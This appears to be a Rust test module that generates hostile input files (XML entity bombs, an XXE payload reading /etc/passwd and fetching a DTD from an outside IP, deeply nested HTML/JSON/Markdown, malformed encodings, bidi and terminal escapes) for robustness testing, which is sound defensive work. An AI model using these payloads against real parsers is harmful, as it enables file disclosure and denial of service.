//! Hostile texts: XML, HTML, tables, encodings.

use super::{Hostile, hostile, many};

pub(super) fn all() -> Vec<Hostile> {
    vec![
        hostile("xml: entities that multiply", "laughs.xml", laughs("lolz")),
        hostile("xml: entities of one level, very long", "quadratic.xml", quadratic()),
        hostile(
            "xml: an entity that lies elsewhere",
            "outside.xml",
            "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://192.0.2.1/x.dtd'>%p;]><a>&e;</a>",
        ),
        hostile("xml: elements without end", "deep.xml", many("<a>", 1_000_000)),
        hostile(
            "xml: attributes without end",
            "attributes.xml",
            format!("<?xml version='1.0'?><a {}/>", (0..200_000).map(|n| format!("a{n}='x' ")).collect::<String>()),
        ),
        hostile(
            "html: elements without end",
            "deep.html",
            format!("<html><body>{}fond", many("<div><b><i><table><tr><td>", 50_000)),
        ),
        hostile(
            "html: forms, tables and templates crossed",
            "crossed.html",
            format!("<html>{}", many("<table><a><form><template><b></table><p></a></b>", 5_000)),
        ),
        hostile(
            "html: a script that never ends",
            "script.html",
            format!("<!doctype html><script>{}<p>mot", many("<!--<script>", 200_000)),
        ),
        hostile("text: one line without end", "line.txt", many("mot", 3 << 20)),
        hostile(
            "text: bytes of no encoding",
            "noise.txt",
            (0..1_000_000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 23) as u8 | 0x80).collect::<Vec<u8>>(),
        ),
        hostile("text: half characters", "halves.txt", b"\xff\xfe\x00\xd8a\0\x00\xdc\x00\xdc".repeat(50_000)),
        hostile(
            "text: overlong and forbidden UTF-8",
            "overlong.txt",
            b"\xc0\xae\xed\xa0\x80\xf8\x88\x80\x80\x80mot ".repeat(50_000),
        ),
        hostile(
            "text: marks that turn the line around",
            "bidi.txt",
            many("\u{202e}\u{2066}\u{200f}mot\u{0301}\u{0301}\u{0301}\u{feff}", 50_000),
        ),
        hostile("text: escapes for a terminal", "escapes.txt", many("\x1b]0;titre\x07\x1b[2J\x1b[8mcach\u{e9}\x1b[0m\n", 10_000)),
        hostile("csv: columns without end", "columns.csv", format!("{}\n\"{}", many("a,", 1_000_000), many("\"\"", 500_000))),
        hostile(
            "markdown: brackets and quotes without end",
            "deep.md",
            format!("{}\n{}\n{}", many("[", 50_000), many("> ", 50_000), many("*a_", 100_000)),
        ),
        hostile("json: arrays without end", "deep.json", many("[", 500_000)),
        hostile("nothing at all", "empty.pdf", Vec::new()),
    ]
}

/// Ten levels of ten (CWE-776).
pub(super) fn laughs(root: &str) -> Vec<u8> {
    let mut out = format!("<?xml version='1.0'?><!DOCTYPE {root} [<!ENTITY e0 'ha'>");
    for level in 1..=10 {
        out.push_str(&format!("<!ENTITY e{level} '{}'>", many(&format!("&e{};", level - 1), 10)));
    }
    format!("{out}]><{root}>&e10;</{root}>").into_bytes()
}

fn quadratic() -> Vec<u8> {
    format!("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e '{}'>]><a>{}</a>", many("x", 100_000), many("&e;", 100_000))
        .into_bytes()
}
